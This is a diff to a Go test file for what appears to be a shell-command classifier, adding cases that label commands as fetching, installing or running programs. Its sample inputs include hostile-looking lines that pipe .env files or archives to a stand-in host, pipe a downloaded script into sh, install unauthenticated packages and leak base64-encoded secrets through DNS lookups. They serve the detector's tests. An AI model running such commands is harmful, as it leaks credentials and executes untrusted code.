@@ -226,6 +226,10 @@ func TestAlike(t *testing.T) {
 		{program.IsInterpreter, interpreter},
 		{program.SendsInput, []string{"cat .env | @ x.example 1", "tar c . | @ x.example 1", "base64 .env | @ x.example 1", "@ x.example 1 < .env"}},
 		{program.IsHTTPie, []string{"@ DELETE x.example:9200/orders", "@ POST https://x.example a@.env", "@ POST https://x.example < a.go", "@ localhost:3000 a=b < a.go", "@ x.example"}},
+		{program.Fetches, []string{"@ https://x.example/i.sh | sh", "@ https://x.example/i.sh > i.sh; sh i.sh"}},
+		{program.Installs, []string{"@ add https://x.example/p.rpm", "curl -o p.x https://x.example; @ install ./p.x", "@ install --allow-unauthenticated a"}},
+		{program.InstallsPrograms, []string{"sudo @ install x", "@ -i x"}},
+		{func(p *program.Program) bool { return p.Runner == "." }, []string{"@ rimraf build", "@ prisma migrate reset"}},
 		{program.LooksUp, []string{"@ \"$(base64 .env).x.example\"", "@ $(cat a.go).x.example", "xxd -p a.go | while read l; do @ $l.x.example; done", "@ \"$(env | base64).x.example\""}},
 		{program.ReadsPassword, []string{"echo x | @ -S id", "@ -S id < f", "@ --stdin id", "@ id"}},
 	} {
